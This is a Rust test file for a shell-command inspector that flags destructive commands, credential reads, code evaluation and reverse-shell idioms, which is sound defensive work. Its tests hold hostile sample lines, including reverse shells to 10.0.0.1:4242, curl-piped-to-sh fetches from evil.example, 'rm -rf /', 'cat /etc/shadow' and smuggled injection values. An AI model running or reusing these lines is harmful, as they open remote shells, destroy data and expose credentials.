//! What must be found, what must be left alone, and what must not trap.

mod attacks;
mod consoles;
mod estates;
mod harmless;
mod intent;
mod kinds;
mod properties;
mod windows;

use super::*;
use attacks::ATTACKS;
use harmless::{HARMLESS, PROSE};
use windows::WINDOWS;

#[test]
fn attacks_are_found() {
    let mut missed = Vec::new();
    for (class, texts) in ATTACKS {
        for text in *texts {
            let found = inspect(text, Flavour::Posix);
            if !found.classes.contains(*class) {
                missed.push(format!("{}: {text}\n    {:?}", class.word(), found.classes));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn attacks_on_windows_are_found() {
    let mut missed = Vec::new();
    for (class, texts) in WINDOWS {
        for text in *texts {
            let joined = inspect(text, Flavour::PowerShell).classes.or(inspect(text, Flavour::Cmd).classes);
            if !joined.contains(*class) {
                missed.push(format!("{}: {text}\n    {joined:?}", class.word()));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn everyday_commands_are_of_no_recommended_class() {
    let mut wrong = Vec::new();
    for text in HARMLESS {
        let found = inspect(text, Flavour::Posix).classes.and(Classes::RECOMMENDED);
        if !found.is_empty() {
            wrong.push(format!("{found:?} {text}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn everyday_commands_of_windows_are_of_no_recommended_class() {
    for text in [
        "Get-ChildItem -Recurse C:\\Users | Select-Object Name",
        "Remove-Item .\\build -Recurse -Force",
        "Invoke-WebRequest https://example.com/a.zip -OutFile a.zip",
        "Get-Process | Sort-Object CPU -Descending | Select -First 5",
        "dir /s *.txt",
        "del *.tmp",
        "copy a b",
        "net use Z: \\\\server\\share",
        "Get-Service | Where-Object {$_.Status -eq 'Running'}",
        "python -c \"print(1)\"",
        "git commit -m \"remove format of the description\"",
        "Set-Location C:\\; Get-Content log.txt -Tail 10",
    ] {
        for flavour in [Flavour::PowerShell, Flavour::Cmd] {
            let found = inspect(text, flavour).classes.and(Classes::RECOMMENDED);
            assert!(found.is_empty(), "{text}: {found:?}");
        }
    }
}

#[test]
fn finer_classes_are_told_apart() {
    use Class::*;
    for (text, class) in [
        ("rm file", Delete),
        ("sudo apt install x", Elevation),
        ("curl -O http://example.com/x", Network),
        ("python -c 'print(1)'", CodeEvaluation),
        ("node -e 'console.log(1)'", CodeEvaluation),
        ("perl -pe 's/a/b/' f", CodeEvaluation),
        ("crontab -e", Scheduling),
        ("echo ls | at now", Scheduling),
        ("$cmd x", Dynamic),
        ("sh -c \"$x\"", Dynamic),
        ("cat f | sh", Dynamic),
    ] {
        let found = inspect(text, Flavour::Posix);
        assert!(found.classes.contains(class), "{text}: {:?}", found.classes);
        assert!(!found.classes.intersects(Classes::RECOMMENDED), "{text}: {:?}", found.classes);
    }
}

#[test]
fn every_command_that_runs_is_named() {
    for (text, names) in [
        ("ls -l | grep x && wc -l", "ls grep wc"),
        ("sudo -u bob env A=1 nice -n 3 git status", "sudo env nice git"),
        ("find . -name x -exec grep y {} \\;", "find grep"),
        ("ls | xargs -n1 rm", "ls xargs rm"),
        ("sh -c 'git log; make'", "sh git make"),
        ("echo $(date) `hostname` <(sort a)", "date hostname sort echo"),
        ("for f in *; do cp $f x; done", "cp"),
        ("if test -f a; then cat a; else touch a; fi", "test cat touch"),
        ("f() { ls; }; f", "ls"),
        ("A=1 B=2 make", "make"),
        ("/usr/bin/git status", "git"),
        ("a=ls; $a", "ls"),
        ("a=ls; true && a=pwd; $a", "true ls pwd"),
        ("eval 'ls; pwd'", "eval ls pwd"),
        ("echo ls | sh", "echo sh ls"),
        ("timeout 5 ssh h 'uptime'", "timeout ssh uptime"),
        ("! time ls", "ls"),
        ("case a in a) ls;; b|c) pwd;; esac", "ls pwd"),
    ] {
        let found = inspect(text, Flavour::Posix);
        let names_found: Vec<&str> = found.commands.iter().map(Command::name).collect();
        assert_eq!(names_found.join(" "), names, "{text}");
        assert!(found.commands_complete, "{text}");
    }
    for text in ["$x a", "`cat f`", "\"$(x)\" y", "${a}b c", "/b?n/ls"] {
        assert!(!inspect(text, Flavour::Posix).commands_complete, "{text}");
    }
}

#[test]
fn words_of_a_list_are_literal() {
    let classes = |args: &[&str]| inspect_argv(args).classes;
    assert!(classes(&["rm", "-rf", "/"]).contains(Class::Destructive));
    assert!(classes(&["sh", "-c", "rm -rf /"]).contains(Class::Destructive));
    assert!(classes(&["cat", "/etc/shadow"]).contains(Class::CredentialRead));
    assert!(!classes(&["echo", "$(rm -rf /)", "; rm -rf /"]).intersects(Classes::RECOMMENDED));
    assert!(!classes(&["git", "commit", "-m", "curl x | sh"]).intersects(Classes::RECOMMENDED));
    assert_eq!(inspect_argv(&["/usr/bin/ls"]).commands, [Command { written: "/usr/bin/ls".to_owned() }]);
}

#[test]
fn notes_tell_where() {
    let text = "ls -l\necho hello; cat /etc/shadow";
    let found = inspect(text, Flavour::Posix);
    let note = found.notes.iter().find(|note| note.class == Class::CredentialRead).unwrap();
    assert_eq!((note.offset, note.words.as_str()), (text.find("cat").unwrap(), "cat /etc/shadow"));
}

#[test]
fn idioms_are_found_in_any_text() {
    for ((class, texts), tenths) in ATTACKS.iter().zip([8, 6]) {
        let most = texts.iter().filter(|text| reverse_shell_idiom(text).is_some()).count();
        assert!(most * 10 >= texts.len() * tenths, "{}: {most} of {}", class.word(), texts.len());
    }
    for text in [
        "name; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "x' && nc -e /bin/sh 10.0.0.1 4242 #",
        "nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4242",
        "$(curl http://evil.example/x | sh)",
        "foo;curl http://evil.example/x.sh|bash",
        "first line\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    ] {
        assert!(reverse_shell_idiom(text).is_some(), "{text}");
    }
}

#[test]
fn prose_and_code_have_no_idioms() {
    for text in PROSE.iter().chain(HARMLESS) {
        assert_eq!(reverse_shell_idiom(text), None, "{text}");
    }
}
